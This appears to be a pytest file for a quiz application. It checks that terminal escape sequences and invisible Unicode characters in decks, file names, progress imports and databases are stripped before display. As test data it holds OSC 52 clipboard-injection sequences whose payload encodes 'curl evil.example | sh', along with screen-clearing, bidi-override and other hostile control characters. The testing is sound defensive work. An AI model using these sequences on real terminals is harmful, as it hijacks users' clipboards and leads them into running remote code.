"""Text from other people's files never reaches the terminal raw (issue 33, item 5).

Every attack the second round found goes through quizapp.terminal_text.terminal_text, and through the
real paths: `quizapp stats` and `quizapp cards --id` after importing a crafted progress file (and on a
crafted `--db`), `quizapp list` on a crafted deck and a deck file whose name holds an escape sequence,
and the card browser in a Textual Pilot run (tests/tui/test_hostile_browser.py).
"""

from __future__ import annotations

import base64
import re
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from quizapp.content.catalog import load_catalog
from quizapp.content.deck_files import display_path
from quizapp.errors import QuizappError
from quizapp.progress.reader import import_progress
from quizapp.progress.writer import export_progress
from quizapp.reports.stats import compute_stats
from quizapp.store import QuestionRef, open_store, reviews_for
from quizapp.store.interviews import (
    InterviewAnswer,
    InterviewConfig,
    add_interview_answer,
    load_interview,
    start_interview,
)
from quizapp.study import record_review
from quizapp.terminal_text import UNSAFE_CHARACTERS, terminal_text

ROOT = Path(__file__).resolve().parent.parent
NOW = datetime(2025, 6, 1, 12, 0, tzinfo=UTC)
SECRET = base64.b64encode(b"curl evil.example | sh").decode()
"""What an OSC 52 sequence would put on the clipboard: it must vanish with its sequence."""
ATTACKS = {
    "OSC 52 ended by BEL": f"\x1b]52;c;{SECRET}\x07",
    "OSC 52 ended by ST": f"\x1b]52;c;{SECRET}\x1b\\",
    "OSC 52 in 8 bits": f"\x9d52;c;{SECRET}\x9c",
    "OSC 52 never ended": f"\x1b]52;c;{SECRET}",
    "clear screen": "\x1b[2J",
    "CSI in 8 bits": "\x9b2J",
    "private mode": "\x1b[?1049h",
    "DCS": f"\x1bP{SECRET}\x1b\\",
    "reset": "\x1bc",
    "charset": "\x1b(0",
    "lone ESC": "\x1b",
    "carriage return": "\r",
    "backspace and bell": "\x08\x07",
    "DEL and NEL": "\x7f\x85",
    "zero-width space": "\u200b",
    "zero-width joiner, word joiner, BOM": "\u200d\u2060\ufeff",
    "Arabic letter mark": "\u061c",
    "right-to-left override": "\u202e",
    "isolates": "\u2066\u2069",
    "LRM and RLM": "\u200e\u200f",
}
UNSAFE = re.compile(f"[{UNSAFE_CHARACTERS}]")


def _safe(text: str) -> bool:
    """No character terminal_text removes, and no OSC 52 payload."""
    return UNSAFE.search(text) is None and SECRET not in text


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_terminal_text_removes_each_attack_whole_and_keeps_the_text_around_it(name: str) -> None:
    attack = ATTACKS[name]
    if name in ("OSC 52 never ended", "lone ESC"):  # a terminal would take what follows as theirs too
        assert terminal_text(f"before{attack}") == "before"
    else:
        assert terminal_text(f"before{attack}after") == "beforeafter"
    assert _safe(terminal_text(f"a{attack}b{attack}\n"))


def test_terminal_text_keeps_newlines_tabs_and_unicode_and_returns_clean_text_as_is() -> None:
    text = "softmax(QKᵀ/√d_k)\n\tthe 2× for K and V: 12.5 GiB ≈ 13.4 GB, 注意力, emoji 🙂"
    assert terminal_text(text) is text
    assert terminal_text("a\r\nb") == "a\nb"


# --------------------------------------------------------------------------- decks


FLASHCARD = "  - id: {qid}\n    type: flashcard\n    front: {front}\n    back: b\n    explanation: e\n"


def _quizapp(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {"QUIZAPP_HOME": str(home), "PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8"}
    return subprocess.run(
        [sys.executable, "-m", "quizapp", *args],
        capture_output=True, text=True, timeout=120, cwd=ROOT, env=env, check=False,
    )  # fmt: skip


TITLES = {
    "a YAML \\r escape alone": '"Evil\\rdeck"',  # the escape check used to miss `\r`
    "a raw U+200B alone": "Evil\u200bdeck",
    "a raw U+061C alone": "Evil\u061cdeck",
    "a raw U+2060 alone": "Evil\u2060deck",
    "every escape at once": '"Evil\\e]52;c;' + SECRET + '\\a\\e[2J\\r\\u200b\\u061c\\u202edeck"',
}


@pytest.mark.parametrize("name", sorted(TITLES))
def test_a_crafted_deck_title_is_cleaned_when_loaded_and_by_quizapp_list(
    name: str, isolated_home: Path
) -> None:
    decks = isolated_home / "decks"
    decks.mkdir()
    text = f"id: evil\ntitle: {TITLES[name]}\ntopic: t\nquestions:\n" + FLASHCARD.format(
        qid="evil-card", front='"front\\e[31m\\u200b red"'
    )
    (decks / "evil.yaml").write_text(text, encoding="utf-8")
    catalog = load_catalog([decks], include_default=False, use_cache=False)
    assert catalog.decks["evil"].title == "Evildeck", name
    assert catalog.question("evil-card").front == "front red"  # type: ignore[union-attr]
    out = _quizapp("list", home=isolated_home)
    assert out.returncode == 0, out.stderr
    assert "Evildeck" in out.stdout
    assert _safe(out.stdout) and _safe(out.stderr)


def test_a_deck_file_name_with_escape_sequences_reaches_stderr_clean(isolated_home: Path) -> None:
    decks = isolated_home / "decks"
    decks.mkdir()
    name = f"evil\x1b]52;c;{SECRET}\x07\x1b[2J\u200b.yaml"
    (decks / name).write_text("id: broken\ntitle: [unclosed\n", encoding="utf-8")
    assert display_path(decks / name).endswith("/evil.yaml")
    for args in (("list",), ("validate", str(decks))):
        out = _quizapp(*args, home=isolated_home)
        assert "evil.yaml" in out.stderr + out.stdout, out
        assert _safe(out.stdout) and _safe(out.stderr), args
        assert "Traceback" not in out.stderr


# --------------------------------------------------------------------------- progress files


EVIL_ANSWER = "12 GiB" + "".join(ATTACKS.values())
EVIL_DIAGNOSIS = f"forgot the 2x{ATTACKS['OSC 52 ended by BEL']}{ATTACKS['clear screen']}\u200b"


def _evil_deck(home: Path) -> None:
    decks = home / "decks"
    decks.mkdir(exist_ok=True)
    text = "id: hostile\ntitle: Hostile\ntopic: t\nquestions:\n" + FLASHCARD.format(
        qid="hostile-card", front="f"
    )
    (decks / "hostile.yaml").write_text(text, encoding="utf-8")


def _crafted_db(path: Path, *, deck_id: str = "hostile") -> None:
    """A database whose review text (and, if asked, deck id) holds every attack, written through the
    store, which saves any text it is given."""
    with open_store(path, now=NOW) as store:
        for days in (2, 1):
            record_review(
                store,
                QuestionRef("hostile-card", deck_id),
                seed=days,
                answer=EVIL_ANSWER,
                correct=False,
                rating=1,
                duration_ms=9_000,
                now=NOW - timedelta(days=days),
                diagnosis=EVIL_DIAGNOSIS,
                diagnosis_id="forgot-2x",
            )
        interview = start_interview(
            store, InterviewConfig(deck_ids=(f"hostile{ATTACKS['clear screen']}",)), now=NOW
        )
        add_interview_answer(
            store,
            interview,
            InterviewAnswer("hostile-card", deck_id, 1, f"prompt{ATTACKS['reset']}", EVIL_ANSWER, False, "x"),
        )


def _crafted_progress_file(tmp_path: Path, *, deck_id: str = "hostile") -> Path:
    source = tmp_path / "source.db"
    _crafted_db(source, deck_id=deck_id)
    file = tmp_path / "crafted.json"
    with open_store(source, now=NOW) as store:
        export_progress(store, file, now=NOW)
    assert "\\u001b]52" in file.read_text(encoding="utf-8"), "the file does carry the attack"
    return file


def test_an_imported_progress_file_is_stored_clean_and_stats_and_cards_print_it_clean(
    tmp_path: Path, isolated_home: Path
) -> None:
    _evil_deck(isolated_home)
    file = _crafted_progress_file(tmp_path)
    db = isolated_home / "progress.db"
    out = _quizapp("--db", str(db), "import", "progress", str(file), home=isolated_home)
    assert out.returncode == 0, out.stderr
    with sqlite3.connect(db) as conn:  # the import itself cleaned the text, whatever reads it later
        texts = [t for row in conn.execute("SELECT answer, diagnosis FROM reviews") for t in row]
        texts += [t for row in conn.execute("SELECT prompt, answer FROM interview_answers") for t in row]
    conn.close()
    assert texts and all(_safe(t) for t in texts), texts
    assert texts[0] == "12 GiB" and texts[1] == "forgot the 2x"  # the visible text is kept
    for args in (("stats",), ("cards", "--id", "hostile-card")):
        out = _quizapp("--db", str(db), *args, home=isolated_home)
        assert out.returncode == 0, out.stderr
        assert "forgot the 2x" in out.stdout or "12 GiB" in out.stdout, out.stdout
        assert _safe(out.stdout) and _safe(out.stderr), args


def test_a_progress_file_whose_ids_hold_escape_sequences_is_refused_with_a_clean_message(
    tmp_path: Path, isolated_home: Path
) -> None:
    file = _crafted_progress_file(tmp_path, deck_id=f"hostile{ATTACKS['OSC 52 ended by BEL']}")
    out = _quizapp("import", "progress", str(file), home=isolated_home)
    assert out.returncode == 2
    assert "cards[0].deck_id holds control, escape, bidi or zero-width characters" in out.stderr, out.stderr
    assert _safe(out.stderr) and "Traceback" not in out.stderr
    with open_store(tmp_path / "fresh.db", now=NOW) as store, pytest.raises(QuizappError, match="no id does"):
        import_progress(store, file, now=NOW)


def test_a_crafted_db_is_shown_clean_by_stats_cards_and_the_store(
    tmp_path: Path, isolated_home: Path
) -> None:
    """`--db` is someone else's database, read without any import: its deck ids hold the attacks too."""
    _evil_deck(isolated_home)
    db = tmp_path / "crafted.db"
    _crafted_db(db, deck_id=f"hostile{ATTACKS['OSC 52 ended by BEL']}{ATTACKS['right-to-left override']}")
    for args in (("stats",), ("stats", "--json"), ("cards", "--id", "hostile-card")):
        out = _quizapp("--db", str(db), *args, home=isolated_home)
        assert out.returncode == 0, out.stderr
        assert _safe(out.stdout) and _safe(out.stderr), args
    stats = _quizapp("--db", str(db), "stats", home=isolated_home).stdout
    assert "hostile" in stats and "forgot the 2x" in stats
    with open_store(db, now=NOW) as store:
        (review, _) = reviews_for(store, "hostile-card")
        stats = compute_stats(store, now=NOW)
        record = load_interview(store, 1)
    assert (review.answer, review.diagnosis, review.deck_id) == ("12 GiB", "forgot the 2x", "hostile")
    assert [m.deck_id for m in stats.mastery] == ["hostile"]
    assert [(d.label, d.question_ids) for d in stats.diagnoses] == [("forgot the 2x", ("hostile-card",))]
    (answer,) = record.answers
    assert (answer.prompt, answer.answer, answer.deck_id) == ("prompt", "12 GiB", "hostile")
    assert record.config.deck_ids == ("hostile",)


def test_the_editor_shows_the_last_submitted_code_without_its_escape_sequences() -> None:
    from engine.exercises import EXERCISES
    from quizapp.tui.backend import with_last_answer

    starter = EXERCISES["code-softmax"].starter
    text = with_last_answer(starter, f"def softmax(x):\n    return x  {EVIL_ANSWER}\n")
    assert _safe(text) and "# def softmax(x):" in text


def test_an_export_to_standard_output_shows_a_crafted_db_clean_on_a_terminal(
    tmp_path: Path, isolated_home: Path
) -> None:
    """`export progress -` to a terminal (a pty here): JSON escapes C0 controls but leaves C1, bidi and
    zero-width characters as they are, so what reaches a terminal is cleaned; a pipe gets the file as is."""
    import os
    import pty

    db = tmp_path / "crafted.db"
    _crafted_db(db)
    env = {"QUIZAPP_HOME": str(isolated_home), "PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8"}
    command = [sys.executable, "-m", "quizapp", "--db", str(db), "export", "progress", "-"]
    piped = subprocess.run(command, capture_output=True, text=True, timeout=60, cwd=ROOT, env=env, check=True)
    assert "\u202e" in piped.stdout, "a pipe gets the file byte for byte"
    main, child = pty.openpty()
    with subprocess.Popen(command, stdout=child, stderr=subprocess.DEVNULL, cwd=ROOT, env=env) as proc:
        os.close(child)
        shown = b""
        while True:
            try:
                block = os.read(main, 1 << 16)
            except OSError:  # EIO: the child closed the terminal
                break
            if not block:
                break
            shown += block
        assert proc.wait(timeout=60) == 0
    os.close(main)
    text = shown.decode("utf-8").replace("\r\n", "\n")  # the terminal's own line endings
    assert '"format": "quizapp-progress"' in text and UNSAFE.search(text) is None, repr(text[-300:])
